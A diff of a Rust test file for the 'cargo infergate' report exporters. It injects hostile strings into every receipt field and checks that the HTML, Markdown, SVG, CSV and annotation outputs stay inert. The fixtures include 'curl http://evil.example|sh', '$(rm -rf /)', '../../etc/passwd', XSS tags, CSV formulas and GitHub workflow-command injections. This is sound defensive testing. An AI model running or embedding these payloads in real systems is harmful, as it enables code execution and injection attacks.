@@ -1,166 +1,119 @@
-//! Receipts that nobody meant well: what is in them becomes no script, no link, no mention, no command and no path.
+//! Receipts that nobody meant well: in every text of every file, through every exporter, there is no script, no link, no mention, no
+//! command, no formula and no path.
 
-use cargo_infergate::receipt::{
-    Evidence, LeakSite, Note, Outcome, OutputComparison, OutputEvidence, Subject, TargetRecord, VerdictRow,
-};
+use std::path::Path;
+
+use cargo_infergate::receipt::{Format, LoadReceipt, MemoryReceipt, PairedReceipt, Receipt, Verdict, read};
 use cargo_infergate::report::export::File;
 use cargo_infergate::report::inputs::Inputs;
-use infergate_core::load::{Failure, FailureClass};
+use cargo_infergate::report::topics::report;
+use infergate_core::printable::printable_within;
 use quick_xml::Reader;
 use quick_xml::events::Event;
+use serde_json::{Value, json};
 
+use crate::report_formats::commands::commands;
 use crate::report_formats::runs;
-use crate::report_formats::support::{file, files, load, memory, paired, two_runs};
+use crate::report_formats::support::{files, load, memory, paired, two_runs};
 
-const BAD: &str = "</title></svg><script>alert(1)</script><img src=x onerror=alert(2)> | `` ``` **bold** [a](javascript:x) \
-                   ![p](http://evil.example/p.png) www.evil.example @octocat #1 org/repo#2 =1+1 \"' %0A::error::x\n::error::y\n\
-                   ::add-mask::z\r\n| a | b |\n\u{1b}[2J\u{1b}]0;t\u{7}\u{202e}reversed";
+const WORDS: [&str; 2] = [
+    "=x; curl http://evil.example|sh `$(y)` ![p](http://evil.example) <script>a</script> @octocat x@-evil #1 GH-1 :lock: \u{ffff} \
+     ::error::z ##[error]z ../../etc/passwd",
+    "\u{1b}[2J\u{202e}\n-->\n::error::a\r\n```\n| # <img src=x onerror=b> | [l](javascript:c) </style></svg> \u{fffe}\u{b}",
+];
 
-fn hostile(mut inputs: Inputs) -> Inputs {
-    if let Some(head) = &mut inputs.head {
-        head.engine.model = BAD.into();
-        head.engine.name = BAD.into();
-        head.machine.class = BAD.into();
-        head.machine.cpu_model = BAD.into();
-        head.build.rustc = BAD.into();
-        head.build.commit = Some("$(rm -rf /)".into());
-        head.created = BAD.into();
-        head.invalid.push(BAD.into());
-    }
-    if let Some(paired) = &mut inputs.paired {
-        paired.head.engine.model = "../../etc/passwd".into();
-        paired.machine.class = BAD.into();
-        paired.base.build.commit = Some("--exec=sh; true".into());
-        paired.head.build.flags = BAD.into();
-    }
-    if let Some(memory) = &mut inputs.memory {
-        memory.engine.model = BAD.into();
-        memory.memory.missing.push(BAD.into());
-        memory.memory.sites = vec![LeakSite { bytes_per_run: 1.0, blocks_per_run: 1.0, frames: vec![BAD.into(); 3] }];
-    }
-    if let Some(run) = &mut inputs.load {
-        (run.created, run.tool, run.machine.class) = (BAD.into(), BAD.into(), BAD.into());
-        run.machine.cpu_model = BAD.into();
-        run.invalid.push(BAD.into());
-        run.notes.push(BAD.into());
-        // The same name twice is one file's name twice.
-        for scenario in &mut run.scenarios {
-            scenario.name = BAD.into();
+/// The place of each text in a file, of two entries of each list.
+fn places(value: &Value, at: &str, found: &mut Vec<String>) {
+    match value {
+        Value::String(_) => found.push(at.to_owned()),
+        Value::Array(list) => {
+            list.iter().take(2).enumerate().for_each(|(number, entry)| places(entry, &format!("{at}/{number}"), found));
         }
-        for target in &mut run.targets {
-            let TargetRecord::Endpoint { name, url, api, model, http, extensions, .. } = target else { continue };
-            *name = format!("{name}{BAD}");
-            (*url, *api, *model, *http) = (BAD.into(), BAD.into(), "../../etc/passwd".into(), BAD.into());
-            *extensions = vec![BAD.into(); 3];
+        Value::Object(fields) => {
+            fields.iter().for_each(|(key, field)| places(field, &format!("{at}/{key}"), found));
         }
-        for request in run.levels.iter_mut().flat_map(|level| level.requests.iter_mut().take(3)) {
-            request.failure = Some(Failure { class: FailureClass::Timeout, status: None, detail: BAD.into() });
-        }
+        _ => {}
     }
-    if let Some(verdict) = &mut inputs.verdict {
-        let subject: Subject = "criterion:<script>alert(3)</script>|`@octocat` #3".parse().expect("a name");
-        let output = OutputEvidence { position: Some(3), ..OutputEvidence::new(OutputComparison::Changed) };
-        verdict.rows.push(VerdictRow::new(subject, Outcome::OutputChanged, Evidence::Output(output)));
-        verdict.notes.push(Note::from(BAD.to_owned()));
-        verdict.notes.push(Note::Differs {
-            what: BAD.into(),
-            base: BAD.into(),
-            head: BAD.into(),
-            sessions: None,
-            paired: true,
-        });
-    }
-    inputs
 }
 
-/// Those that were judged.
-fn judged() -> [Inputs; 3] {
-    [hostile(two_runs()), hostile(paired()), hostile(memory())]
-}
-
-fn each() -> Vec<Inputs> {
-    let loads = [runs::scenarios(), runs::targets()].map(|receipt| hostile(load(receipt)));
-    judged().into_iter().chain(loads).collect()
-}
-
-#[test]
-fn no_file_has_a_name_of_its_own_making() {
-    for inputs in each() {
-        for file in files(&inputs) {
-            let safe = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || "-./_".contains(c);
-            assert!(file.name.chars().all(safe), "{}", file.name);
-            assert!(!file.name.contains("..") && !file.name.starts_with('/'), "{}", file.name);
+#[track_caller]
+fn assert_harmless(inputs: &Inputs) {
+    for File { name, text } in files(inputs) {
+        let is_safe = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || "-./_".contains(c);
+        assert!(!name.contains("..") && !name.starts_with('/') && name.chars().all(is_safe), "{name}");
+        if name.ends_with(".json") {
+            serde_json::from_str::<Value>(&text).expect("JSON");
+            continue;
+        }
+        for line in text.lines() {
+            // Our own mark in words that would come alive.
+            let line = if name.ends_with(".md") { line.replace('\u{200b}', "") } else { line.into() };
+            assert_eq!(printable_within(&line, line.len().max(1)), line, "{name}");
+        }
+        match name.rsplit_once('.').map(|(_, end)| end) {
+            Some("svg" | "xml") => well_formed(&name, &text),
+            Some("md") => nothing_is_live(&name, &text),
+            Some("html") => assert_eq!((text.matches("<script").count(), text.contains("<img")), (1, false), "{name}"),
+            Some("csv") => no_formula(&text),
+            _ => {}
+        }
+        if name == "annotations.txt" {
+            let ours = ["::error title=infergate", "::warning title=infergate", "::notice title=infergate"];
+            assert!(text.lines().all(|line| ours.iter().any(|begin| line.starts_with(begin))), "{text}");
+        }
+        if name == "comment.md" {
+            commands(&text).into_iter().for_each(assert_ours);
         }
     }
 }
 
-#[test]
-fn no_file_holds_control_characters() {
-    for inputs in each() {
-        for file in files(&inputs) {
-            let text = String::from_utf8(file.bytes).expect("text");
-            let bad = |c: &char| (c.is_control() && *c != '\n') || *c == '\u{202e}';
-            assert_eq!(text.chars().find(bad), None, "{}", file.name);
+/// `git checkout`, or this program with flags of ours, each with a value that is one word.
+fn assert_ours(line: &str) {
+    let words = shlex::split(line).expect("a command");
+    let words: Vec<&str> = words.iter().map(String::as_str).filter(|word| *word != "--server").collect();
+    match words[..] {
+        ["git", "checkout", _] => {}
+        ["cargo", "infergate", _, ref flags @ ..] => {
+            let is_ours = |pair: &[&str]| pair[0].starts_with("--") && pair.len() == 2 && !pair[1].starts_with('-');
+            assert!(flags.chunks(2).all(is_ours), "{line}");
         }
+        _ => panic!("{line}"),
     }
 }
 
-#[test]
-fn a_page_has_one_script_and_no_handler() {
-    for inputs in each() {
-        let page = file(&inputs, "report.html");
-        assert_eq!(page.matches("<script").count(), 1);
-        assert_eq!(page.matches("</script").count(), 1);
-        for tag in ["<img", "<svg><script", "<iframe", "javascript:x\""] {
-            assert!(!page.contains(tag), "{tag}");
-        }
-    }
+fn well_formed(name: &str, text: &str) {
+    let mut reader = Reader::from_str(text);
+    while !matches!(reader.read_event().unwrap_or_else(|error| panic!("{name}: {error}")), Event::Eof) {}
+    assert!(!text.contains("<script") && !text.contains("<img"), "{name}");
 }
 
-#[test]
-fn markdown_makes_no_link_mention_or_html_of_a_receipt() {
-    for inputs in each() {
-        let pages = files(&inputs).into_iter().filter(|file| ["comment.md", "report.md"].contains(&&*file.name));
-        for File { name, bytes } in pages {
-            let text = String::from_utf8(bytes).expect("text");
-            for line in text.lines() {
-                // An escaped bracket is no link's.
-                let bare = without_code(line).replace("\\[", "").replace("\\]", "");
-                for bad in [
-                    "<script",
-                    "<img",
-                    "</title",
-                    "http://",
-                    "](javascript",
-                    "](http",
-                    "@octocat",
-                    "www.evil",
-                    "#1",
-                    "#2",
-                ] {
-                    assert!(!bare.contains(bad), "{name}: {bad} in {line}");
-                }
-            }
-            assert!(!text.contains("$(rm"), "{name}: a commit that is none stands nowhere");
-            assert!(!text.contains("--exec"), "{name}");
+fn nothing_is_live(name: &str, text: &str) {
+    let live = ["<script", "<img", "http://", "](javascript", "](http", "@octocat", "@-evil", "#1", "GH-1", ":lock:"];
+    let (mut in_block, mut columns) = (false, None);
+    for line in text.lines() {
+        if line.starts_with("```") {
+            in_block = !in_block;
         }
+        // An escaped bracket is no link's.
+        let bare = without_code(line).replace("\\[", "").replace("\\]", "");
+        assert!(in_block || !live.iter().any(|bad| bare.contains(bad)), "{name}: {line}");
+        assert!(in_block || !line.starts_with("::"), "{name}: {line}");
+        let count = line.replace("\\|", "").matches('|').count();
+        columns = line.starts_with('|').then(|| *columns.get_or_insert(count));
+        assert!(columns.is_none_or(|columns| columns == count), "{name}: another number of columns in {line}");
     }
+    assert!(!in_block, "{name}: a block is not closed");
 }
 
 /// What of a line stands outside of code, by the rule of CommonMark: a run of backticks is closed by one of the same length.
-pub fn without_code(line: &str) -> String {
-    let mut bare = String::new();
-    let mut rest = line;
+fn without_code(line: &str) -> String {
+    let (mut bare, mut rest) = (String::new(), line);
     while let Some(at) = rest.find('`') {
-        let escaped = rest[..at].ends_with('\\');
         bare += &rest[..at];
         let length = rest[at..].chars().take_while(|c| *c == '`').count();
         let after = &rest[at + length..];
-        let end = if escaped { None } else { closing(after, length) };
-        match end {
-            Some(end) => rest = &after[end..],
-            None => rest = after,
-        }
+        let end = if rest[..at].ends_with('\\') { None } else { closing(after, length) };
+        rest = &after[end.unwrap_or(0)..];
     }
     bare + rest
 }
@@ -169,58 +122,103 @@ fn closing(text: &str, length: usize) -> Option<usize> {
     let mut at = 0;
     while let Some(found) = text[at..].find('`') {
         let run = text[at + found..].chars().take_while(|c| *c == '`').count();
-        if run == length {
-            return Some(at + found + run);
-        }
         at += found + run;
+        if run == length {
+            return Some(at);
+        }
     }
     None
 }
 
-#[test]
-fn tables_keep_their_columns() {
-    for inputs in each() {
-        let text = file(&inputs, "report.md");
-        let mut columns = None;
-        for line in text.lines() {
-            if !line.starts_with('|') {
-                columns = None;
-                continue;
-            }
-            let count = line.replace("\\|", "").matches('|').count();
-            assert_eq!(*columns.get_or_insert(count), count, "{line}");
+fn no_formula(csv: &str) {
+    for record in csv::Reader::from_reader(csv.as_bytes()).records() {
+        let record = record.expect("a record");
+        for text in [3, 9].map(|at| &record[at]) {
+            assert!(!text.starts_with(['=', '+', '-', '@']), "{record:?}");
         }
     }
 }
 
-/// Two scenarios of one name have pictures of their own.
-#[test]
-fn no_picture_takes_the_place_of_another() {
-    for inputs in each() {
-        let report = cargo_infergate::report::topics::report(&inputs);
-        let mut names: Vec<&str> = report.charts().map(|chart| chart.id.as_str()).collect();
-        let count = names.len();
-        names.sort_unstable();
-        names.dedup();
-        assert_eq!(names.len(), count, "{names:?}");
-    }
+/// What was measured about the cause, of which the golden file has nothing.
+fn explain(paired: &mut Value) {
+    let time = json!({"base_ns": 1e6, "head_ns": 2e6, "low_ns": 9e5, "high_ns": 1.1e6});
+    paired["explained"] = json!([{
+        "id": "decode/p8", "blocks": 8, "base_samples": 900, "head_samples": 900, "total": time, "waiting": time,
+        "functions": [{
+            "name": "attend", "place": "src/step.rs:1", "caller": "step", "time": time, "called": [{"name": "dot", "time": time}]
+        }],
+        "frames": [{"name": "main", "depth": 0, "time": time}, {"name": "attend", "depth": 1, "time": time}]
+    }, {"id": "prefill/p8", "why_not": "nothing was seen"}]);
+    paired["allocated"] = json!([{
+        "id": "decode/p8",
+        "places": [{
+            "frames": ["attend at src/step.rs:1", "step"], "base_allocations": 4.0, "head_allocations": 9.0, "base_bytes": 64.0,
+            "head_bytes": 640.0
+        }]
+    }]);
 }
 
-/// Many levels of many requests make no picture of megabytes either.
-#[test]
-fn pictures_of_a_long_load_run_stay_small() {
-    let mut receipt = runs::scenarios();
-    receipt.levels = vec![runs::level(0, 100, 200, |number| runs::Answers::new(100 + number % 7, 10, 4))];
-    for file in files(&load(receipt)).iter().filter(|file| file.name.ends_with(".svg")) {
-        assert!(file.bytes.len() < 600_000, "{}: {} bytes", file.name, file.bytes.len());
+/// Each text of a golden file in turn; one that the reader refuses makes no page.
+fn through<T: Format>(name: &str, as_inputs: &dyn Fn(T) -> Inputs) {
+    let golden = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden").join(name);
+    let golden = std::fs::read_to_string(golden).expect("a golden file");
+    let mut value: Value = serde_json::from_str(&golden).expect("JSON");
+    if name.starts_with("paired") {
+        explain(&mut value);
     }
+    let folder = tempfile::tempdir().expect("a folder");
+    let path = folder.path().join("hostile.json");
+    let mut found = Vec::new();
+    places(&value, "", &mut found);
+    let mut taken = 0;
+    for place in &found {
+        for word in WORDS {
+            let mut value = value.clone();
+            *value.pointer_mut(place).expect("its own place") = word.into();
+            std::fs::write(&path, value.to_string()).expect("a file");
+            if let Ok(read) = read::<T>(&path) {
+                assert_harmless(&as_inputs(read));
+                taken += 1;
+            }
+        }
+    }
+    assert!(taken > 0, "{name}: every text was refused");
 }
 
-/// A request of many tokens and a case of many samples make no picture of megabytes.
+#[test]
+fn receipts() {
+    let known = two_runs();
+    through::<Receipt>("receipt-1.json", &|head| Inputs { head: Some(head), ..known.clone() });
+}
+
+#[test]
+fn verdicts() {
+    let known = paired();
+    through::<Verdict>("verdict-2.json", &|verdict| Inputs { verdict: Some(verdict), ..known.clone() });
+}
+
+#[test]
+fn paired_receipts() {
+    let known = paired();
+    through::<PairedReceipt>("paired-1.json", &|pair| Inputs { paired: Some(pair), ..known.clone() });
+}
+
+#[test]
+fn memory_receipts() {
+    let known = memory();
+    through::<MemoryReceipt>("memory-1.json", &|receipt| Inputs { memory: Some(receipt), ..known.clone() });
+}
+
+#[test]
+fn load_receipts() {
+    through::<LoadReceipt>("load-1.json", &|load| Inputs { load: Some(load), ..Inputs::new("cargo infergate") });
+}
+
+/// A request of many tokens, a case of many samples and a level of many requests make no picture of megabytes.
 #[test]
 fn pictures_stay_small() {
-    let mut inputs = two_runs();
-    let head = inputs.head.as_mut().expect("a run");
+    let mut run = two_runs();
+    let head = run.head.as_mut().expect("a run");
     let mut long = head.cases[2].clone();
     long.id = "generate/p8-o50000".parse().expect("a case");
     long.processes[0].samples_ns = vec![(1..=50_000).map(|token| token * 1_000).collect()];
@@ -228,68 +226,24 @@ fn pictures_stay_small() {
     other.id = "prefill/p16".parse().expect("a case");
     other.processes[0].samples_ns = vec![vec![1_000_000]; 50_000];
     head.cases.extend([long, other]);
-    for file in files(&inputs).iter().filter(|file| file.name.ends_with(".svg")) {
-        assert!(file.bytes.len() < 600_000, "{}: {} bytes", file.name, file.bytes.len());
-    }
-}
-
-#[test]
-fn annotations_are_commands_of_ours_alone() {
-    for inputs in judged() {
-        for line in file(&inputs, "annotations.txt").lines() {
-            let kind = ["::error title=infergate%3A ", "::warning title=infergate%3A ", "::notice title=infergate%3A "];
-            assert!(kind.iter().any(|kind| line.starts_with(kind)), "{line}");
+    let mut many = runs::scenarios();
+    many.levels = vec![runs::level(0, 100, 200, |number| runs::Answers::new(100 + number % 7, 10, 4))];
+    for inputs in [run, load(many)] {
+        for File { name, text } in files(&inputs).iter().filter(|file| file.name.ends_with(".svg")) {
+            assert!(text.len() < 600_000, "{name}: {} bytes", text.len());
         }
     }
 }
 
+/// A chart's id is the name of its file.
 #[test]
-fn xml_is_well_formed() {
-    for inputs in each() {
-        for file in files(&inputs) {
-            if !file.name.ends_with(".svg") && !file.name.ends_with(".xml") {
-                continue;
-            }
-            let text = String::from_utf8(file.bytes).expect("text");
-            let mut reader = Reader::from_str(&text);
-            loop {
-                match reader.read_event() {
-                    Ok(Event::Eof) => break,
-                    Ok(_) => {}
-                    Err(error) => panic!("{}: {error}", file.name),
-                }
-            }
-            assert!(!text.contains("<script"), "{}", file.name);
-        }
-    }
-}
-
-#[test]
-fn a_spreadsheet_computes_nothing() {
-    for inputs in [hostile(two_runs()), hostile(load(runs::targets()))] {
-        let csv = file(&inputs, "report.csv");
-        let mut reader = csv::Reader::from_reader(csv.as_bytes());
-        for record in reader.records() {
-            let record = record.expect("a record");
-            for text in [&record[3], &record[9]] {
-                assert!(!text.starts_with(['=', '+', '-', '@']), "{text}");
-            }
-        }
-    }
-}
-
-/// GitHub makes pictures of `:lock:`, links of `GH-1`, and addresses of whatever stands around an @.
-#[test]
-fn names_and_numbers_of_others_come_alive_in_no_comment() {
-    let mut inputs = paired();
-    let text =
-        "engine::lock::acquire at 08:00:00, GH-1 gh-2 high-3, x@-evil.example x@.evil.example x@_evil.example 1 @ 2";
-    inputs.verdict.as_mut().expect("judged").notes.push(Note::from(text.to_owned()));
-    for name in ["comment.md", "report.md"] {
-        let text = file(&inputs, name);
-        let line = text.lines().find(|line| line.contains("acquire")).expect("the note");
-        let own = "engine::\u{200b}lock::acquire at 08:00:00, GH-\u{200b}1 gh-\u{200b}2 high-3, x@\u{200b}-evil.example \
-                   x@\u{200b}.evil.example x@\u{200b}\\_evil.example 1 @ 2";
-        assert!(line.ends_with(own), "{line}");
-    }
+fn no_picture_takes_the_place_of_another() {
+    let mut receipt = runs::scenarios();
+    receipt.scenarios.iter_mut().for_each(|scenario| scenario.name = "the same".into());
+    let report = report(&load(receipt));
+    let mut names: Vec<&str> = report.charts().map(|chart| chart.id.as_str()).collect();
+    let count = names.len();
+    names.sort_unstable();
+    names.dedup();
+    assert_eq!(names.len(), count, "{names:?}");
 }
